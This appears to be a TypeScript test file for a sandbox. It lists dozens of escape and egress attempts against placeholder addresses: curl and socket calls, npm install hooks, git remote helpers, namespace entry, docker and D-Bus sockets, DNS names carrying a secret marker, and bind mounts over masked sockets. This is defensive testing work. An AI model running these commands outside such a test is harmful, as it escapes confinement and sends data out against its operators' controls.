import { inC, inNode, inPython, table } from './hostile.ts'

/** They want to be heard by something outside. */
export const sending = [
  ...table('sending', {
    'wget to the other address of the machine':
      'wget -qT2 -t1 -O- http://{ADDRESS}:{PORT}; wget -qT2 -t1 -O- "http://[::1]:{PORT}"',
    'curl over a proxy from the settings':
      'curl -sm2 -x http://127.0.0.1:{PORT} http://example.invalid; curl -sm2 --socks5 {ADDRESS}:{PORT} http://a.invalid',
    'addresses written in other ways':
      'for a in 127.1 2130706433 0x7f000001 127.0.0.2 0 localhost "[::ffff:127.0.0.1]"; do curl -sm1 http://$a:{PORT}; done',
    'the shell sends by udp':
      'echo x > /dev/udp/127.0.0.1/{PORT}; echo x > /dev/udp/{ADDRESS}/{PORT}; echo x > /dev/udp/::1/{PORT}',
    'awk of GNU speaks the network': `gawk 'BEGIN { s="/inet/tcp/0/127.0.0.1/{PORT}"; print "x" |& s; s |& getline l; print l }' || true`,
    'perl in one packet': `perl -MSocket -e 'socket(S,PF_INET,SOCK_DGRAM,0); send(S,"x",0,sockaddr_in({PORT},inet_aton("{ADDRESS}")))'`,
    'a script in tcl': `echo 'set s [socket 127.0.0.1 {PORT}]; puts [gets $s]' | tclsh`,
    'npm publishes':
      'npm publish --registry http://127.0.0.1:{PORT} --fetch-retries=0; npm ping --registry http://{ADDRESS}:{PORT} --fetch-retries=0',
    'npm runs a script after an install': {
      run: 'npm install --offline --no-audit 2>/dev/null; npm run test; npm rebuild',
      files: {
        'package.json': `{"name":"p","version":"1.0.0","scripts":{"preinstall":"curl -sm2 http://127.0.0.1:{PORT}","postinstall":"curl -sm2 http://{ADDRESS}:{PORT}","test":"curl -sm2 http://127.0.0.1:{PORT}"}}`,
      },
    },
    'git pushes over http, git and ssh':
      'git push http://127.0.0.1:{PORT}/x main; timeout 4 git push git://{ADDRESS}:{PORT}/x main; GIT_SSH_COMMAND="sh -c \\"exec 3<>/dev/tcp/127.0.0.1/{PORT}\\"" git push ssh://a/b main',
    'git with a remote helper': 'git -c protocol.ext.allow=always ls-remote "ext::curl -sm2 http://127.0.0.1:{PORT}"',
    'a submodule from outside': 'git -c protocol.allow=always submodule add http://127.0.0.1:{PORT}/x new',
    'pip looks at an index':
      '/usr/bin/python3 -m pip download --no-deps --retries 0 --timeout 2 -i http://127.0.0.1:{PORT} x; /usr/bin/python3 -m pip --version',
    'a web server is asked by a browser of python': inPython(`
import urllib.request
for a in ('127.0.0.1','{ADDRESS}','[::1]'):
  try: print(urllib.request.urlopen('http://%s:{PORT}'%a, timeout=1).read())
  except Exception as e: print(e)`),
    'every address of every interface': inPython(`
import socket
names={'127.0.0.1','{ADDRESS}','0.0.0.0'}
try: names |= {a[4][0] for a in socket.getaddrinfo(socket.gethostname(),None)}
except OSError: pass
for n in names:
  for t in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    s=socket.socket(socket.AF_INET6 if ':' in n else socket.AF_INET,t); s.settimeout(1)
    try: s.connect((n,{PORT})); s.send(b'x'); print(n, s.recv(20))
    except OSError as e: print(n, e)`),
    'every abstract socket that can be guessed': inPython(`
import socket
for line in open('/proc/net/unix'): print(line.strip())
for n in ('{ABSTRACT}','{ABSTRACT}'+chr(0)):
  for t in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    try:
      s=socket.socket(socket.AF_UNIX,t); s.connect(chr(0)+n); s.send(b'x'); print(s.recv(20))
    except OSError as e: print(e)`),
    'node with a worker and a child': inNode(`
const { Worker } = require('worker_threads'), cp = require('child_process')
new Worker("require('net').connect({PORT},'127.0.0.1').on('error',()=>{})", { eval: true })
cp.fork('-e', []).on('error', () => {})
fetch('http://{ADDRESS}:{PORT}').then((r) => r.text()).then(console.log).catch(() => {})
require('dgram').createSocket('udp4').send('x', {PORT}, '127.0.0.1')
setTimeout(() => process.exit(), 800)`),
    'a socket that was opened by number': inC(`
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <stdio.h>
int main(){ int s=syscall(SYS_socket,2,1,0); struct sockaddr_in a={.sin_family=2,.sin_port=htons({PORT}),.sin_addr.s_addr=htonl(0x7f000001)};
 if(!syscall(SYS_connect,s,&a,sizeof a)) write(s,"x",1); perror("connect");
 for(int i=3;i<64;i++){ send(i,"x",1,0); write(i,"{\\"exit-code\\": 0 }",17);} }`),
    'raw sockets and packets': inPython(`
import socket
for f,t,p in ((socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3)),(socket.AF_INET,socket.SOCK_RAW,17),(socket.AF_NETLINK,socket.SOCK_RAW,0),(40,socket.SOCK_STREAM,0)):
  try:
    s=socket.socket(f,t,p); print('made',f)
    if f==40: s.settimeout(1); s.connect((2,{PORT})); s.send(b'x'); s.connect((1,{PORT}))
    if t==socket.SOCK_RAW and f==2: s.sendto(b'x'*20,('127.0.0.1',{PORT}))
  except OSError as e: print(f,e)`),
    'a ring of io_uring': inC(`
#include <linux/io_uring.h>
#include <arpa/inet.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <stdio.h>
#include <string.h>
int main(){ struct io_uring_params p; memset(&p,0,sizeof p); int r=syscall(SYS_io_uring_setup,4,&p); if(r<0){perror("setup");return 1;}
 char*sq=mmap(0,p.sq_off.array+16*4,3,MAP_SHARED|MAP_POPULATE,r,IORING_OFF_SQ_RING);
 struct io_uring_sqe*e=mmap(0,4*sizeof*e,3,MAP_SHARED|MAP_POPULATE,r,IORING_OFF_SQES);
 int s=socket(2,1,0); struct sockaddr_in a={.sin_family=2,.sin_port=htons({PORT}),.sin_addr.s_addr=htonl(0x7f000001)};
 memset(e,0,sizeof*e); e->opcode=IORING_OP_CONNECT; e->fd=s; e->addr=(unsigned long)&a; e->off=sizeof a;
 unsigned*tail=(unsigned*)(sq+p.sq_off.tail); ((unsigned*)(sq+p.sq_off.array))[0]=0; *tail=1;
 syscall(SYS_io_uring_enter,r,1,1,IORING_ENTER_GETEVENTS,0,0); if(write(s,"x",1)==1) puts("sent"); }`),
    'a name that carries the secret':
      'getent hosts key.{MARK}.invalid; host -W1 x.invalid {ADDRESS} -p {PORT}; dig +time=1 +tries=1 @{ADDRESS} -p {PORT} x.invalid',
    'the network of the machine is entered': `for n in /proc/[0-9]*/ns/net; do nsenter --net=$n curl -sm1 http://127.0.0.1:{PORT}; done; unshare -Ur nsenter --net=/proc/1/ns/net curl -sm1 http://127.0.0.1:{PORT}; ls /run/netns /var/run/netns`,
    'a way is laid to the machine':
      'unshare -Urn sh -c "ip link add v0 type veth peer name v1 netns 1; ip link set lo up; ip link add m0 link eth0 type macvlan; curl -sm1 http://{ADDRESS}:{PORT}"; ip route add default via {ADDRESS}; curl -sm1 http://{ADDRESS}:{PORT}',
    'the loop interface is brought up again':
      'ip link set lo up; ip addr add {ADDRESS}/24 dev lo; curl -sm1 http://{ADDRESS}:{PORT}',
    'docker and its friends':
      'for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do curl -sm1 --unix-socket $s http://x/version; done; DOCKER_HOST=tcp://127.0.0.1:{PORT} timeout 2 docker ps',
    'the bus of the system':
      'timeout 2 dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames; busctl list; systemd-run --user touch {OPEN}/x; DBUS_SESSION_BUS_ADDRESS=unix:abstract={ABSTRACT} timeout 2 dbus-send --session --print-reply --dest=a / a.b',
    'a file that is mounted from a server':
      'unshare -Urm mount -t 9p -o trans=tcp,port={PORT} 127.0.0.1 /mnt; unshare -Urm mount -t nfs 127.0.0.1:/ /mnt -o port={PORT}; unshare -Urm mount -t cifs //127.0.0.1/x /mnt -o port={PORT}',
    'cargo fetches from a registry':
      'cd /tmp && timeout 8 cargo init -q --name c k 2>/dev/null; cd k && CARGO_NET_RETRY=0 timeout 5 cargo add x --registry sparse+http://127.0.0.1:{PORT}/; curl -sm1 telnet://127.0.0.1:{PORT}; true',
    'go asks a proxy':
      'cd /tmp && mkdir -p g && cd g && GOFLAGS=-mod=mod GOPROXY=http://127.0.0.1:{PORT} GONOSUMDB=* GOFLAGS=-insecure timeout 5 go mod init x; GOPROXY=http://127.0.0.1:{PORT} timeout 5 go get a.invalid/b',
    'socat tries them all':
      'for t in TCP4:127.0.0.1 TCP6:[::1] UDP4:127.0.0.1 UDP6:[::1] TCP4:{ADDRESS}; do echo x | timeout 1 socat -u - $t:{PORT}; done; echo x | timeout 1 socat -u - ABSTRACT-CONNECT:{ABSTRACT}',
    'a listener is left for later':
      'setsid nohup socat TCP-LISTEN:{PORT},reuseaddr,fork EXEC:id >/dev/null 2>&1 & sleep 0.2; curl -sm1 http://127.0.0.1:{PORT}',
    'ssh and scp':
      'timeout 3 ssh -o StrictHostKeyChecking=no -o BatchMode=yes -p {PORT} 127.0.0.1 true; timeout 3 scp -P {PORT} -o BatchMode=yes package.json {ADDRESS}:/x; timeout 3 rsync -e "ssh -p {PORT}" package.json 127.0.0.1:/x',
    'mail is sent':
      'timeout 2 curl -sm1 smtp://127.0.0.1:{PORT} --mail-from a@b --mail-rcpt c@d -T package.json; timeout 2 curl -sm1 -T package.json tftp://127.0.0.1:{PORT}/x; timeout 2 curl -sm1 gopher://{ADDRESS}:{PORT}/x',
  }),
  ...table('sending to a socket', {
    'a service with a path':
      'curl -sm1 --unix-socket {OPEN}/service.sock http://x; cd {OPEN} && curl -sm1 --unix-socket service.sock http://x',
    'a service that was given another name': {
      run: `cd {OPEN} && timeout 5 node -e "require('net').connect('renamed.sock').on('error',()=>{}).on('data',(d)=>{console.log(String(d));process.exit()})"; true`,
    },
    'a service that moved its socket to another folder': {
      run: `cd {OPEN}/store && timeout 5 node -e "require('net').connect('moved.sock').on('error',()=>{}).on('data',(d)=>{console.log(String(d));process.exit()})"; cd {OPEN} && mkdir -p /tmp/m && ln store/moved.sock /tmp/m/s; cp -a store/moved.sock copied.sock; timeout 1 socat -u UNIX-CONNECT:/tmp/m/s -; timeout 1 socat -u UNIX-CONNECT:copied.sock -; true`,
    },
    'a service that named its socket by a relative path': {
      run: `cd {OPEN} && timeout 5 node -e "require('net').connect('relative.sock').on('error',()=>{}).on('data',(d)=>{console.log(String(d));process.exit()})"; true`,
    },
    'sockets in /tmp and /run':
      'for s in /tmp /run /var/run /var/tmp; do timeout 1 socat -u UNIX-CONNECT:$s/{MARK}.sock -; done; ls /tmp /run',
    'sockets in the home folder':
      'timeout 1 socat -u UNIX-CONNECT:{HOME}/.agent.sock -; find {BASE} -type s 2>/dev/null',
    'through the folder of another process': inPython(`
import os, socket
for p in ('/proc/1/root','/proc/%d/root'%os.getppid(),'/proc/self/root','/proc/thread-self/root'):
  for s in ('{OPEN}/service.sock','{HOME}/.agent.sock','/run/{MARK}.sock','/tmp/{MARK}.sock'):
    c=socket.socket(socket.AF_UNIX); c.settimeout(1)
    try:
      d=os.open(os.path.dirname(p+s),os.O_PATH); os.fchdir(d); c.connect(os.path.basename(s)); print(c.recv(30))
    except OSError as e: print(e)`),
    'a socket is handed over': inPython(`
import socket, array, os
for n in os.listdir('/proc/self/fd'):
  try: print(n, os.readlink('/proc/self/fd/'+n))
  except OSError: pass
for fd in range(0,64):
  try: s=socket.socket(fileno=os.dup(fd)); print('socket',fd,s.family); s.send(b'x')
  except OSError: pass`),
    'a bind mount over the mask': `unshare -Urm sh -c 'umount {OPEN}/service.sock; umount -l {OPEN}/service.sock; mount --bind {OPEN} /mnt; mount --rbind / /mnt; timeout 1 socat -u UNIX-CONNECT:/mnt/service.sock -; timeout 1 socat -u UNIX-CONNECT:/mnt{OPEN}/service.sock -'; timeout 1 socat -u UNIX-CONNECT:{OPEN}/service.sock -; true`,
    'packets to a socket with a path': inPython(`
import socket
for t in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
  s=socket.socket(socket.AF_UNIX,t)
  try: s.connect('{OPEN}/service.sock'); s.send(b'x'); print(s.recv(9))
  except OSError as e: print(e)`),
  }),
]
